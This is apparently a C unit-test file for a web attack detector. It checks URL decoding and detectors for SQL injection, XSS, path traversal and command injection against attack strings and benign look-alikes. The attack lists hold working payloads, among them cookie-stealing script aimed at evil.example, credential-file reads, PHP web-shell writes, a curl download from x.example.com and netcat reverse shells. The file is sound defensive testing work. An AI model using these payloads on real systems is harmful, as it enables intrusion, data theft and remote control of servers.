/*
 * Unit tests for the web attack detectors: URL decoding, URL splitting, and each detector on
 * attacks of its class and on ordinary values that look like them.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "engine/webattack/sqli_lex.h"
#include "engine/webattack/webattack.h"

static struct tld_webattack_scratch scratch;

static size_t dec(const char *in, char *out, size_t cap)
{
    size_t n = tld_url_decode(in, strlen(in), out, cap);
    if (n < cap)
        out[n] = 0;
    return n;
}

static unsigned scan(const char *url)
{
    return tld_webattack_scan(url, strlen(url), &scratch);
}

#define SQLI(s)  tld_sqli_detect((s), strlen(s))
#define XSS(s)   tld_xss_detect((s), strlen(s))
#define TRAV(s)  tld_traversal_detect((s), strlen(s))
#define CMDI(s)  tld_cmdi_detect((s), strlen(s))
#define TRAVP(s) tld_traversal_detect_path((s), strlen(s))

/* ---- decoding ------------------------------------------------------------------------------- */

static void decode_basic(void **state)
{
    char out[256];
    assert_int_equal(dec("a%20b+c", out, sizeof out), 5);
    assert_string_equal(out, "a b c");
    dec("%41%62%7e", out, sizeof out);
    assert_string_equal(out, "Ab~");
    /* invalid escapes stay literally */
    dec("100%+sure%zz%4", out, sizeof out);
    assert_string_equal(out, "100% sure%zz%4");
    dec("%", out, sizeof out);
    assert_string_equal(out, "%");
}

static void decode_repeated_and_bounded(void **state)
{
    char out[256];
    dec("%2527", out, sizeof out); /* double */
    assert_string_equal(out, "'");
    dec("%252527", out, sizeof out); /* triple */
    assert_string_equal(out, "'");
    dec("%25252527", out, sizeof out); /* four layers: only three are undone */
    assert_string_equal(out, "%27");
    /* '+' is form syntax only in the first round; an encoded plus stays a plus */
    dec("1%2B1", out, sizeof out);
    assert_string_equal(out, "1+1");
    dec("%252B", out, sizeof out);
    assert_string_equal(out, "+");
}

static void decode_unicode_and_nul(void **state)
{
    char out[256];
    dec("%u0027%uFF1Cb%uFF1E", out, sizeof out); /* ' and fullwidth < > */
    assert_string_equal(out, "'<b>");
    dec("%u00e9", out, sizeof out);
    assert_string_equal(out, "\xc3\xa9");
    size_t n = dec("a%00b%0a", out, sizeof out);
    assert_int_equal(n, 4);
    assert_int_equal(out[1], 0);
    assert_int_equal(out[3], '\n');
    /* the output is cut at cap, never overrun */
    char small[4] = {'x', 'x', 'x', 'x'};
    n = tld_url_decode("abcdef", 6, small, 3);
    assert_int_equal(n, 3);
    assert_memory_equal(small, "abcx", 4);
}

static void log_unescape(void **state)
{
    char out[64];
    const char *in = "q=\\x22a\\x5Cb\\xZZ\\x4";
    size_t n = tld_url_log_unescape(in, strlen(in), out, sizeof out);
    out[n] = 0;
    assert_string_equal(out, "q=\"a\\b\\xZZ\\x4");
}

/* ---- URL splitting ----------------------------------------------------------------------------
 */

static void scan_splits_and_decodes(void **state)
{
    assert_int_equal(scan("/search?q=shoes&page=2"), 0);
    assert_int_equal(scan("/search?q=1%27%20or%20%271%27%3D%271"), TLD_WEBATTACK_SQLI);
    assert_int_equal(scan("/search?q=1'+or+'1'%3D'1&page=2"), TLD_WEBATTACK_SQLI);
    /* as written in an nginx log line: quotes are \x22 */
    assert_int_equal(scan("/p?x=\\x22><script>alert(1)</script>"), TLD_WEBATTACK_XSS);
    /* a request line and an absolute URL */
    assert_int_equal(scan("GET /view?file=../../../etc/passwd HTTP/1.1"), TLD_WEBATTACK_TRAVERSAL);
    assert_int_equal(scan("http://example.com/view?file=..%2F..%2F..%2Fetc%2Fpasswd"),
                     TLD_WEBATTACK_TRAVERSAL);
    /* exec('ls') reads as T-SQL too: a process function with a command is command injection */
    assert_int_equal(scan("/x?q=%27%3Bexec%28%27ls%27%29%3B%27") & ~(unsigned)TLD_WEBATTACK_XSS,
                     TLD_WEBATTACK_CMDI);
    assert_int_equal(scan("/x?q=1;exec%20xp_cmdshell%20'dir'") & TLD_WEBATTACK_SQLI,
                     TLD_WEBATTACK_SQLI);
    /* the path itself */
    assert_int_equal(scan("/static/..%2f..%2f..%2fetc/passwd"), TLD_WEBATTACK_TRAVERSAL);
    assert_int_equal(scan("/docs/../docs/api/index.html"), 0);
    /* an encoded '&' stays inside its value: "Tom & Jerry" is one value */
    assert_int_equal(scan("/s?q=Tom%20%26%20Jerry&x=1"), 0);
    /* parameter names are scanned too */
    assert_int_equal(scan("/s?%3Cscript%3Ealert(1)%3C/script%3E=1"), TLD_WEBATTACK_XSS);
    /* several kinds in one URL */
    unsigned k = scan("/a?x=1%20union%20select%201,2&y=%3Cscript%3E&z=;cat%20/etc/passwd");
    assert_true(k & TLD_WEBATTACK_SQLI);
    assert_true(k & TLD_WEBATTACK_XSS);
    assert_true(k & TLD_WEBATTACK_CMDI);
    assert_string_equal(tld_webattack_kind_name(TLD_WEBATTACK_XSS), "xss");
    assert_string_equal(tld_webattack_kind_name(0x100), "?");
}

static void scan_benign_urls(void **state)
{
    static const char *const ok[] = {
        "/",
        "/index.html",
        "/search?q=O%27Reilly+books&page=3",
        "/search?q=rock+and+roll&sort=price+asc",
        "/shop?q=select+a+size&category=home+%26+garden",
        "/list?range=1-2+of+10&per_page=20",
        "/account/register?email=john.doe%2Bnews%40example.com&name=Se%C3%A1n+O%27Brien",
        "/track?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale-2024",
        "/api/items?filter=%7B%22price%22%3A%7B%22gte%22%3A10%7D%7D&fields=id,name",
        "/login?next=%2Faccount%2Forders%3Fid%3D5",
        "/go?url=https%3A%2F%2Fpartner.example.com%2F%3Fid%3D5%26ref%3Dus",
        "/calc?expr=(3*4)-1",
        "/events?from=2024-03-05T10:00:00Z&to=03/05/2024",
        "/search?q=c%2B%2B+vector+%3Cint%3E",
        "/search?q=price+%3C+20+and+rating+%3E+4",
        "/search?q=5%2711%22+tall",
        "/upload?file=C%3A%5Cfakepath%5Cinvoice.pdf",
    };
    for (size_t i = 0; i < sizeof ok / sizeof ok[0]; i++) {
        unsigned k = scan(ok[i]);
        if (k)
            print_error("flagged %#x: %s\n", k, ok[i]);
        assert_int_equal(k, 0);
    }
}

static void scan_long_and_odd_input(void **state)
{
    /* longer than the scan bound: cut, not overrun */
    size_t n = TLD_WEBATTACK_MAX_URL * 2;
    char *u = malloc(n);
    assert_non_null(u);
    memcpy(u, "/x?q=", 5);
    memset(u + 5, 'a', n - 5);
    assert_int_equal(tld_webattack_scan(u, n, &scratch), 0);
    /* an attack past a long but legal prefix is still seen */
    memset(u + 5, 'a', 6000);
    strcpy(u + 6005, "%27%20union%20select%20null,version()--");
    assert_int_equal(tld_webattack_scan(u, strlen(u), &scratch), TLD_WEBATTACK_SQLI);
    free(u);
    /* NUL bytes, lone separators, empty pieces */
    const char odd[] = "/a?=&&=x&%00=%00&q";
    assert_int_equal(tld_webattack_scan(odd, sizeof odd - 1, &scratch), 0);
    assert_int_equal(tld_webattack_scan("", 0, &scratch), 0);
}

/* ---- SQL injection ------------------------------------------------------------------------------
 */

static void sqli_attacks(void **state)
{
    static const char *const bad[] = {
        /* no quote to close: a condition or clause the query continues with */
        " and 7339 like 7339;--",
        "+AND+2>1;--",
        "3686 or true",
        "0\t||\t1;--",
        " OR x=x",
        " group by 1 having 1=1--",
        /* string joins, versioned comments, conditions cut by a comment, bare UNION SELECT */
        "'+'",
        "\" \"",
        "\" or \"\" \"",
        "'&'",
        "1/*!50000'*/",
        " OR a=b#",
        "or coalesce(null,1) /*",
        " or login like char(37,37);",
        "||(elt(2,version(),user()))",
        "') union all select-- ",
        "union select",
        "(4711=4711)*12",
        "\nhaving\ncount(*)>0-- -",
        "x order by 4-- -",
        "ORDER BY 1",
        "  group by  1,2,3,4,5",
        /* tool boundaries and look-alike quotes */
        "1` AND 4415=4415-- -",
        "1);+InseRT+Into+users+values(1,'a','b')--",
        "admin\xe2\x80\x99--",
        "\xef\xbc\x87 OR \xef\xbc\x87"
        "1\xef\xbc\x87=\xef\xbc\x87"
        "1",
        "\xca\xbc OR 1=1--",
        ";+CREATE+USER+x+IDENTIFIED+BY+'y'#",
        " OR 1--",
        "  group by  users.id  HAVING  1=1-- -",
        ";\ncall sys.exec('id')--",
        "(4955=4955)",
        "1' or '1'='1",
        "x' OR 'z'='z' --",
        "admin'--",
        "admin')#",
        "') or ('q'='q",
        "7 or 2>1",
        "3 and 8=8",
        "9 AND 4=5-- -",
        "55 union select null,@@version",
        "-3 UNION ALL SELECT 1,concat(login,0x3a,pass),3 FROM accounts",
        "0' union select username, password from staff where '1'='1",
        "1; DROP TABLE orders",
        "4'; exec master..xp_cmdshell 'dir'--",
        "2; waitfor delay '0:0:7'--",
        "1' and sleep(3) and 'k'='k",
        "8 or benchmark(1000000,md5(1))",
        "1 AND (SELECT COUNT(*) FROM information_schema.tables)>0",
        "1' AND extractvalue(1,concat(0x7e,database()))--",
        "xyz' || (select user()) || '",
        "1/**/or/**/1=1",
        "-9 /*!50000union*/ /*!50000select*/ 1,2,3",
        "6 order by 4--",
        "q' order by 2#",
        "1 and ascii(substring(user(),1,1))>64",
        "iif(4=4,1,1/0)",
        "(case when 3=3 then 1 else 0 end)",
        "1' having 1=1--",
        "1 into outfile '/tmp/x'",
        "'; shutdown --",
        "1 or pg_sleep(4)--",
        "1); declare @q varchar(99); set @q='x'--",
        "zz'or col!='3",
        "7' * 2 or '7",
        "1#note\nAND#x\n4=4",
        "-2 union select 5,6 from dual",
    };
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        if (!SQLI(bad[i]))
            print_error("missed: %s\n", bad[i]);
        assert_true(SQLI(bad[i]));
    }
}

static void sqli_benign(void **state)
{
    static const char *const ok[] = {
        /* near misses of the forms above */
        "Singin' in the Rain",
        "Singin\xe2\x80\x99 in the Rain",
        "Ocean\xe2\x80\x99s 11 or Ocean\xe2\x80\x99s 12",
        "Don\xe2\x80\x99t Stop Me Now",
        "group by 2",
        "\"*\"",
        "'%'",
        "'s '",
        "/*! jQuery v3.7 */",
        "or more -- see below",
        "and x=5; free shipping",
        "union selection",
        "{${sleep(3)}}",
        "European Union Select Committee",
        "Union Select Committee 2024",
        "|| logo(1)",
        "group by week",
        "order by price desc",
        "true or false",
        "1 or 2",
        "rock and roll or true blue",
        "Disney+ and Hulu",
        "C++ or Java?",
        "me+tag@example.com",
        "`code` sample",
        "`--disable-readline' was fixed",
        "(5 > 3)",
        "or 1 more",
        "group by name having fun",
        "O'Reilly",
        "rock and roll",
        "select a size",
        "Select Comfort mattress",
        "1-2 of 10",
        "Tom & Jerry",
        "drop table tennis",
        "union station",
        "order by date",
        "it's 5 o'clock",
        "5'11\" tall",
        "2 or 3 items",
        "price >= 10 and <= 20",
        "Harry Potter and the Order of the Phoenix",
        "don't stop believin'",
        "\"quoted phrase\" and more",
        "size \"M\" or \"L\"",
        "who's on first",
        "true or false quiz",
        "1 AND 1/2 inch",
        "e = mc^2",
        "x > 5 and y < 3",
        "a=1 and b=2",
        "john.doe+news@example.com",
        "{\"id\":5,\"tags\":[\"a\",\"b\"]}",
        "2024-03-05",
        "#summer2024",
        "Ticket #5 -- urgent",
        "what is 1=1",
        "In case when it rains then stay home",
        "\"LIKE\" new condition",
        "Blue 'OR' Green",
        "\"AND\" \"OR\" logic gates kit",
        "Apt #5\nand more",
    };
    for (size_t i = 0; i < sizeof ok / sizeof ok[0]; i++) {
        if (SQLI(ok[i]))
            print_error("flagged: %s\n", ok[i]);
        assert_false(SQLI(ok[i]));
    }
}

static void sqli_keyword_table(void **state)
{
    assert_true(tld_sqli_words_check());
    assert_true(tld_sqli_word_flags("UNION", 5) & SW_UNION);
    assert_true(tld_sqli_word_flags("Sleep", 5) & SW_DANGER);
    assert_int_equal(tld_sqli_word_flags("shoes", 5), 0);
    assert_int_equal(tld_sqli_word_flags("a", 1), 0);
}

static void sqli_long_values(void **state)
{
    /* a construct far past the first batch of tokens */
    size_t pad = 3000;
    char *v = malloc(pad * 2 + 64);
    assert_non_null(v);
    for (size_t i = 0; i < pad; i++) {
        v[2 * i] = 'x';
        v[2 * i + 1] = ',';
    }
    strcpy(v + 2 * pad, "1 union select null,null");
    assert_true(SQLI(v));
    strcpy(v + 2 * pad, "1 and a small union");
    assert_false(SQLI(v));
    free(v);
}

/* ---- XSS
 * ----------------------------------------------------------------------------------------- */

static void xss_attacks(void **state)
{
    static const char *const bad[] = {
        /* script without tags */
        "'-top['ale'+'rt'](1)-'",
        "';self[/pro/.source+/mpt/.source](origin)//",
        "'}this['prompt'](origin){'",
        "';[1].find(alert);//",
        "\"}Promise.resolve(1).then(prompt){\"",
        "';setTimeout(confirm,0,1)//",
        "';valueOf=alert;window+'';//",
        "\";onerror=alert;throw 1//",
        "';\\u{61}lert(1)//",
        "'-pri\\u{6e}t(1)//",
        "\"}import('//x.example.com/a.js'){\"",
        "';a=prompt,a()//",
        "{onerror=alert}throw 1",
        "alert.call(null,1)",
        "window['alert'](1)",
        "top[8680439..toString(30)](1)",
        "(alert)(1)",
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></script>",
        "<img src=x onerror=alert(document.domain)>",
        "<svg/onload=confirm(1)>",
        "<body onpageshow=prompt(1)>",
        "\"><iframe src=//evil.example>",
        "\" onmouseover=\"alert(7)",
        "' autofocus onfocus=alert(1) x='",
        "javascript:alert(1)",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "<div style=\"width:expression(alert(1))\">",
        "<div style=\"background:url(javascript:alert(1))\">",
        "<scr<script>ipt>alert(1)</script>",
        "';alert(String.fromCharCode(88))//",
        "'-alert(1)-'",
        "\";document.location='//evil.example/?c='+document.cookie;//",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=//evil.example/>",
        "<form action=javascript:alert(1)><input type=submit>",
        "<object data=\"data:text/html,<script>alert(1)</script>\">",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "<x style=\"behavior:url(#default#time2)\" onbegin=alert(1)>",
        "<img src=x:alert(alt) oNeRrOr=eval(src) alt=0>",
    };
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        if (!XSS(bad[i]))
            print_error("missed: %s\n", bad[i]);
        assert_true(XSS(bad[i]));
    }
}

static void xss_benign(void **state)
{
    static const char *const ok[] = {
        /* near misses of the forms above */
        "Code Red (Alert)",
        "print(hello)",
        "confirm(ed) booking",
        "status=alert",
        "[1] find alert",
        "Tom's [alert] list",
        "it's {this} one",
        "a=alert, b(1)",
        "top[10] (movies)",
        "(Alert) (band)",
        "alert.call center",
        "Tax: Import (EU)",
        "a < b > c",
        "<3 you",
        "x<y and y>z",
        "Tom's \"best\" pizza",
        "javascript tutorial",
        "javascript: the good parts",
        "the onload event",
        "c++ <vector> sort",
        "<b>bold</b> text",
        "5 > 3",
        "alert dog collar",
        "regular expression (regex)",
        "I'm with stupid",
        "data: 2024 report",
        "mailto:john@example.com",
        "onion=3",
        "\"Stay hungry\"",
        "=SUM(A1:A3)",
    };
    for (size_t i = 0; i < sizeof ok / sizeof ok[0]; i++) {
        if (XSS(ok[i]))
            print_error("flagged: %s\n", ok[i]);
        assert_false(XSS(ok[i]));
    }
}

/* ---- traversal and command injection
 * -------------------------------------------------------------- */

static void traversal_cases(void **state)
{
    assert_true(TRAV("../../etc/passwd"));
    assert_true(TRAV("..\\..\\windows\\win.ini"));
    assert_true(TRAV("/../../../../boot.ini"));
    assert_true(TRAV("/..\xc0\xaf..\xc0\xaf..\xc0\xaf"
                     "etc/hosts"));
    assert_true(TRAV("....//....//....//etc/shadow"));
    assert_true(TRAV("0x2e0x2e0x2f0x2e0x2e0x2fetc"));
    assert_true(TRAV("file:///etc/passwd"));
    assert_true(TRAV("/app/WEB-INF/web.xml"));
    assert_true(tld_traversal_detect("../config.php\0.png", 18)); /* NUL cuts the extension */
    assert_false(TRAV("../config.php"));
    assert_true(TRAV("/.../.../secret"));
    assert_true(TRAV("..;/..;/admin"));
    /* ordinary paths and dots */
    assert_false(TRAV("../images/logo.png"));
    assert_false(TRAV("/docs/../docs/api"));
    assert_false(TRAV("docs/getting-started/install.md"));
    assert_false(TRAV("john.doe@example.com"));
    assert_false(TRAV("19.99"));
    assert_false(TRAV("wait...what"));
    assert_false(TRAV("//cdn.example.com/img/banner.jpg"));
    assert_false(TRAV("https://example.com/a/b?c=d"));
    assert_false(TRAV("C:\\fakepath\\photo.jpg"));
    /* file inclusion without climbing: system folders, secret files, stream wrappers */
    assert_true(TRAV("/etc/passwd"));
    assert_true(TRAV("//etc//nginx//nginx.conf"));
    assert_true(TRAV("/proc/self/environ"));
    assert_true(TRAV("/var/log/apache2/access.log"));
    assert_true(TRAV("C:\\Windows\\win.ini"));
    assert_true(TRAV("c:/inetpub/wwwroot/web.config"));
    assert_true(TRAV("%SYSTEMROOT%\\system32\\drivers\\etc\\hosts"));
    assert_true(TRAV("/home/ubuntu/.ssh/id_rsa"));
    assert_true(TRAV("php://filter/convert.base64-encode/resource=index.php"));
    assert_true(TRAV("PHP://input"));
    assert_true(TRAV("phar://uploads/a.jpg/x"));
    assert_true(TRAV("data://text/plain;base64,PD9waHA="));
    assert_true(TRAV("expect://id"));
    assert_true(TRAV("\xf0\x80\x80\xae\xf0\x80\x80\xae/etc/x"));
    assert_true(TRAV("C:\\MySQL\\data\\mysql\\user.MYD"));
    assert_true(TRAV("/tmp/sess_abc123"));
    assert_false(TRAV("/tmp/upload.png"));
    assert_false(TRAV("/etc"));
    assert_false(TRAV("/var/folders"));
    assert_false(TRAV("/account/settings"));
    assert_false(TRAV("C:\\Users\\Public\\file.txt"));
    assert_false(TRAV("php.ini"));
    assert_false(TRAV("learn php: the basics"));
    assert_false(TRAV("data: 3 rows"));
    assert_false(TRAV("/docs/config.php"));
    /* home dotfiles, /proc entries, server logs and configuration by extension, drive roots */
    assert_true(TRAV("~/.bash_history"));
    assert_true(TRAV("~root/.ssh/id_rsa"));
    assert_true(TRAV("~/.node_repl_history"));
    assert_true(TRAV("/.zshenv"));
    assert_true(TRAV("//home//admin//.pgpass"));
    assert_true(TRAV("/proc/loadavg"));
    assert_true(TRAV("/var/tmp/sess"));
    assert_true(TRAV("/usr/local/panel/logs/auth_log"));
    assert_true(TRAV("/logs/ftpd-transfers.log"));
    assert_true(TRAV("/home/db/pgdata/pg_hba.conf"));
    assert_true(TRAV("c:\\apache24\\logs\\httpd.log"));
    assert_true(TRAV("c:/Program Files/MariaDB 10.6/data/host.err"));
    assert_true(TRAV("c:/var/lib/postgres/main.conf"));
    assert_true(TRAV("/C:/inetpub/logs/"));
    assert_false(TRAV("~/Downloads"));
    assert_false(TRAV("~/.hidden"));
    assert_false(TRAV("/a/.hidden"));
    assert_false(TRAV("/.well-known/security.txt"));
    assert_false(TRAV("/home/user/docs"));
    assert_false(TRAV("/proc"));
    assert_false(TRAV("/logs"));
    assert_false(TRAV("/blog.log"));
    assert_false(TRAV("C:\\fakepath\\debug.log"));
    assert_false(TRAV("/usr/profile"));
    assert_false(TRAV("/opt/out"));
    /* request paths: only climbing above the root and encoded tricks */
    assert_true(TRAVP("/static/../../etc/passwd"));
    assert_true(TRAVP("/a/..\xc0\xaf..\xc0\xaf"));
    assert_false(TRAVP("/blog/../about"));
    assert_false(TRAVP("/./index.html"));
}

static void cmdi_cases(void **state)
{
    static const char *const bad[] = {
        "; cat /etc/passwd",
        "x | id",
        "`whoami`",
        "$(uname -a)",
        "a && ping -c 3 10.0.0.1",
        "1;sleep 9;",
        "|| /usr/bin/id",
        "x\nls -la",
        "<!--#exec cmd=\"ls\"-->",
        "';system('id')",
        "${IFS}cat${IFS}/etc/passwd",
        "& dir c:\\",
        /* shell grammar without the classic forms */
        "x\r/usr/bin/id",
        "a b\nuname -a#",
        ";w'h'o'am'i",
        "|c${u}at /etc/passwd",
        "&&wh\\oami",
        ";cat$IFS$9/etc/passwd",
        "${PATH:0:1}etc${PATH:0:1}passwd",
        "|/\?\?\?/c?t /\?\?\?/p\?\?s\?\?",
        ";{cat,/etc/passwd}",
        "<(uname -a)",
        "$(printf 'x')",
        /* Windows commands in any case */
        "127.0.0.1&IPCONFIG /all",
        "x|Net User",
        "'& FINDSTR /si password *.xml",
        "a\nreg query HKLM\\Software",
        "1||ver",
        "127.0.0.1&&net view&",
        /* process functions and web shells */
        "__import__('os').system('id')",
        "require('child_process').exec('ls')",
        "java.lang.Runtime.getRuntime().exec('id')",
        "system($_GET['c']);",
        "echo '<?php system($_GET[c]); ?>' > /var/www/html/s.php",
        "; echo PD9w | base64 -d > shell.php",
        "curl -o shell.php http://x.example.com/s.txt",
        /* a reconnaissance command as the whole value, an echo probe */
        "uname -a",
        "ipconfig /all",
        "ls -la /",
        "; echo 'vuln'",
        /* grammar alone: Shellshock in a value, PHP complex syntax, stored commands, written-out
         * line breaks, interpreters with a script, cmd.exe carets, eval of a command */
        "() { :; }; /usr/bin/id",
        "{${system('uname -a')}}",
        "${@system($_GET[c])}",
        ";{$_REQUEST['x']}",
        "|phpversion();",
        "RUN=$'uname -a';$RUN",
        "X=\"ls -la\";${X}",
        "\\nuname -a\\n",
        "|whoami\\n",
        "\\n/usr/bin/id",
        "nc -nv 10.0.0.5 9001 -e /bin/sh",
        "perl -e 'print 1'",
        "^ping -n 3 10.0.0.1",
        "&w^ho^ami",
        "eval('uname -a')",
        "$(`ver`)",
        "ne^t user",
        "\"\\r\\nhostname",
        "ncat 10.0.0.1 4444 -e /bin/bash",
    };
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        if (!CMDI(bad[i]))
            print_error("missed: %s\n", bad[i]);
        assert_true(CMDI(bad[i]));
    }
    static const char *const ok[] = {
        "Tom & Jerry",
        "salt & pepper",
        "Name & ID",
        "AT&T",
        "cat food",
        "rm -rf meaning",
        "Sleep & Relax",
        "ping pong",
        "R&D; Q&A",
        "echo dot",
        "Blood & type 2",
        "a | b",
        "ls engine",
        "dog & cat toys",
        /* near misses of the forms above */
        "{id}",
        "user {name}",
        "Shift & Cmd",
        "Tom & Ver",
        "a > b",
        "price > 5.php",
        "Save & Type /news",
        "the system's design",
        "exec(utive) summary",
        "R&D; Reg",
        "I can't 'see' it",
        "it's o'clock",
        "$5 {sale}",
        "/\?\?/",
        "curl up",
        "we'd like",
        "don't 'stop' me",
        /* near misses of the grammar forms */
        "()=>{x}",
        "( ) are brackets {",
        "Hello ${name}",
        "{$price} each",
        "phpinfo() explained",
        "what phpversion() returns",
        "a=b; $a is a variable",
        "C:\\new\\id",
        "line1\\nline2",
        "node -v 18",
        "python -V",
        "perl -e",
        "x^2 + y^2",
        "2^ping",
        "eval('2+2')",
        "^_^ cute",
        "a^b",
        "nc state university",
        "nc 27 tickets",
    };
    for (size_t i = 0; i < sizeof ok / sizeof ok[0]; i++) {
        if (CMDI(ok[i]))
            print_error("flagged: %s\n", ok[i]);
        assert_false(CMDI(ok[i]));
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(decode_basic),
        cmocka_unit_test(decode_repeated_and_bounded),
        cmocka_unit_test(decode_unicode_and_nul),
        cmocka_unit_test(log_unescape),
        cmocka_unit_test(scan_splits_and_decodes),
        cmocka_unit_test(scan_benign_urls),
        cmocka_unit_test(scan_long_and_odd_input),
        cmocka_unit_test(sqli_attacks),
        cmocka_unit_test(sqli_benign),
        cmocka_unit_test(sqli_keyword_table),
        cmocka_unit_test(sqli_long_values),
        cmocka_unit_test(xss_attacks),
        cmocka_unit_test(xss_benign),
        cmocka_unit_test(traversal_cases),
        cmocka_unit_test(cmdi_cases),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
